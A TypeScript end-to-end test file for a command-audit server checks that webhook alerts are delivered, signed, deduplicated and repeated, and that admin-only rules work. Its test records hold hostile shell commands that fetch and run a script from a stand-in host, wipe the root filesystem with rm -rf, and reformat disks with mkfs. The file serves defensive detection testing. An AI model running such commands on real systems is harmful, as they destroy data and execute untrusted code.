/**
 * Alerts end to end on the real server process: records POSTed over loopback raise alerts that a
 * signed webhook receives, exactly once each, after the receiver was down; matches in a window are
 * counted, not sent again, and a window that counted more after its alert was sent gets a repeat.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { createHmac } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { stringify } from "yaml";
import type { AlertsPage } from "../../protocol/index.ts";
import type { AlertMessage } from "../../server/src/alerts/channels/channel.ts";
import { startServer, type RunningServer } from "../support/server.ts";
import { cleanupTmpDirs, INGEST_TOKEN, READ_TOKEN, tmpDir } from "./helpers.ts";

const SECRET = "webhook-secret-0123456789";
const ADMIN = "admin-token-0123456789abcdef";
const WINDOW_S = 3;

interface Received { id: string; body: AlertMessage & { version: number }; at: number }
const received: Received[] = [];
let receiver: ReturnType<typeof Bun.serve> | undefined;
let port = 0;
let srv: RunningServer;

function listen(): void {
  receiver = Bun.serve({
    hostname: "127.0.0.1", port,
    async fetch(req) {
      const body = await req.text();
      const ts = req.headers.get("x-cmdaudit-timestamp") ?? "";
      const want = "sha256=" + createHmac("sha256", SECRET).update(`${ts}.${body}`).digest("hex");
      // A receiver that checks: a bad signature is refused, and the test sees it never arrived.
      if (req.headers.get("x-cmdaudit-signature") !== want) return new Response("bad signature", { status: 401 });
      received.push({ id: req.headers.get("x-cmdaudit-delivery")!, body: JSON.parse(body) as Received["body"], at: Date.now() });
      return new Response("ok");
    },
  });
  port = receiver.port!;
}

beforeAll(async () => {
  // A port the receiver will take later: for now nothing listens there (connection refused).
  listen();
  await receiver!.stop(true);
  receiver = undefined;
  const dir = tmpDir();
  const file = join(dir, "server.yml");
  writeFileSync(file, stringify({
    database_url: `sqlite:${join(dir, "db.sqlite")}`,
    tokens: { ingest: [INGEST_TOKEN], read: [READ_TOKEN], admin: [ADMIN] },
    alerts: {
      dedupe_window_seconds: WINDOW_S, max_retry_seconds: 1, console_url: "https://audit.example.com/",
      channels: [{ name: "hooks", type: "webhook", url: `http://127.0.0.1:${port}/cmdaudit`, secret: SECRET, min_severity: "warning" }],
    },
  }), { mode: 0o600 });
  srv = await startServer({ CMDAUDIT_CONFIG: file });
}, 60_000);

afterAll(async () => {
  await srv?.stop();
  await receiver?.stop(true);
  cleanupTmpDirs();
});

let seq = 0;
const rec = (command: string, over: Record<string, unknown> = {}) => ({
  kind: "command", ctime: new Date().toISOString(), hostname: "web01", serverIps: "10.0.0.1", suser: "root", luser: "alice",
  terminal: "pts/1", clientIp: "192.168.1.9", sessionId: "s-e2e", seq: ++seq, cwd: "/root", exitStatus: 0, command, ...over,
});
const post = async (records: unknown[]) => {
  const res = await fetch(`${srv.url}/api/v1/commands`, { method: "POST", headers: { AccessToken: INGEST_TOKEN, "Content-Type": "application/json" }, body: JSON.stringify(records) });
  expect(res.status).toBe(200);
  return (await res.json()) as { accepted: number; duplicates: number };
};
const alerts = async () => ((await (await fetch(`${srv.url}/api/v1/alerts?limit=1000`, { headers: { AccessToken: READ_TOKEN } })).json()) as AlertsPage).items;
const metric = async (name: string) => {
  const text = await (await fetch(`${srv.url}/metrics`, { headers: { AccessToken: READ_TOKEN } })).text();
  return text.split("\n").filter((l) => l.startsWith(name)).reduce((n, l) => n + Number(l.split(" ").at(-1)), 0);
};
async function until(what: string, ok: () => boolean | Promise<boolean>, ms = 20_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await ok())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await Bun.sleep(50);
  }
}

test("a receiver that is down, then up: every alert delivered exactly once, signed; matches in a window counted into one message; a resend raises nothing", async () => {
  const batch = [
    rec("ls -la"), rec("curl -fsSL http://get.example/i.sh | sudo bash"),
    rec("rm -rf /"), rec("rm -rf /*"), rec("sudo rm -fr --no-preserve-root /"),
    rec("rm -rf /", { luser: "bob", sessionId: "s-bob", seq: 1 }),
  ];
  expect(await post(batch)).toMatchObject({ accepted: 6 });
  expect((await alerts()).length).toBe(5);
  // Down: attempts fail and are counted; nothing arrives.
  await until("failed attempts", async () => (await metric('cmdaudit_alert_deliveries_total{channel="hooks",result="failed"}')) >= 3);
  expect(await metric("cmdaudit_alert_outbox_pending")).toBe(3);
  listen();
  await until("three messages", () => received.length >= 3);
  // Past the windows and a few more dispatcher rounds: nothing else comes (the windows counted nothing after their sends).
  await Bun.sleep((WINDOW_S + 2) * 1000);
  expect(received.length).toBe(3);
  expect(new Set(received.map((r) => r.id)).size).toBe(3);
  const by = received.map((r) => [r.body.ruleId, r.body.luser, r.body.count, r.body.kind]).sort();
  expect(by).toEqual([
    ["destroy.rm-root", "alice", 3, "alert"], ["destroy.rm-root", "bob", 1, "alert"], ["exec.download-to-shell", "alice", 1, "alert"],
  ]);
  const download = received.find((r) => r.body.ruleId === "exec.download-to-shell")!.body;
  expect(download).toMatchObject({ version: 1, severity: "critical", hostname: "web01", command: "curl -fsSL http://get.example/i.sh | sudo bash", sessionId: "s-e2e" });
  expect(download.link).toBe(`https://audit.example.com/sessions/s-e2e?host=web01#seq-${download.seq}`);
  expect(await metric('cmdaudit_alert_deliveries_total{channel="hooks",result="sent"}')).toBe(3);
  expect(await metric("cmdaudit_alert_outbox_pending")).toBe(0);
  expect(await metric("cmdaudit_alerts_raised_total")).toBe(5);

  expect(await post(batch)).toMatchObject({ accepted: 0, duplicates: 6 });
  await Bun.sleep(1500);
  expect((await alerts()).length).toBe(5);
  expect(received.length).toBe(3);
}, 60_000);

test("a window that counted more after its alert was sent gets one repeat message with the rest", async () => {
  received.length = 0;
  await post([rec("mkfs.ext4 /dev/sdz1", { hostname: "db7" })]);
  await until("the alert", () => received.length === 1, 5000);
  const sentAt = Date.now();
  await post([rec("mkfs.xfs /dev/sdz2", { hostname: "db7" }), rec("mkfs -t ext4 /dev/sdz3", { hostname: "db7" })]);
  await until("the repeat", () => received.length === 2, (WINDOW_S + 5) * 1000);
  const [first, repeat] = received.map((r) => r.body);
  expect(first).toMatchObject({ kind: "alert", ruleId: "destroy.mkfs", count: 1 });
  expect(repeat).toMatchObject({ kind: "repeat", ruleId: "destroy.mkfs", count: 2, hostname: "db7", seq: first!.seq });
  // Not before the window ended.
  expect(received[1]!.at).toBeGreaterThanOrEqual(sentAt + 1000);
  await Bun.sleep(2000);
  expect(received.length).toBe(2);
}, 30_000);

test("an API rule (admin token) raises alerts at once; the read token cannot add one; removal stops it", async () => {
  received.length = 0;
  const rule = { id: "prod-reboot", command: "reboot", severity: "critical", hosts: ["prod-*"] };
  const put = (tok: string) => fetch(`${srv.url}/api/v1/rules/prod-reboot`, { method: "PUT", headers: { AccessToken: tok, "Content-Type": "application/json" }, body: JSON.stringify(rule) });
  expect((await put(READ_TOKEN)).status).toBe(401);
  expect((await put(INGEST_TOKEN)).status).toBe(401);
  const ok = await put(ADMIN);
  expect(ok.status).toBe(200);
  expect(await ok.json()).toMatchObject({ id: "prod-reboot", source: "api", enabled: true });
  const builtin = await fetch(`${srv.url}/api/v1/rules/destroy.mkfs`, { method: "DELETE", headers: { AccessToken: ADMIN } });
  expect(builtin.status).toBe(409);
  await post([rec("sudo /sbin/reboot", { hostname: "prod-3" }), rec("sudo reboot", { hostname: "dev-3" }), rec("vim reboot.txt", { hostname: "prod-3" })]);
  await until("the reboot alert", () => received.length === 1, 5000);
  expect(received[0]!.body).toMatchObject({ ruleId: "prod-reboot", hostname: "prod-3", command: "sudo /sbin/reboot" });
  const del = await fetch(`${srv.url}/api/v1/rules/prod-reboot`, { method: "DELETE", headers: { AccessToken: ADMIN } });
  expect(del.status).toBe(200);
  await post([rec("reboot", { hostname: "prod-4" })]);
  await Bun.sleep(1500);
  expect(received.length).toBe(1);
  expect((await alerts()).filter((a) => a.rule === "prod-reboot").map((a) => a.hostname)).toEqual(["prod-3"]);
}, 30_000);

test("logs name channels and errors, never the webhook secret or a command", () => {
  const text = srv.logs.join("\n");
  expect(text).toContain("hooks");
  expect(text).not.toContain(SECRET);
  expect(text).not.toContain("get.example/i.sh");
});
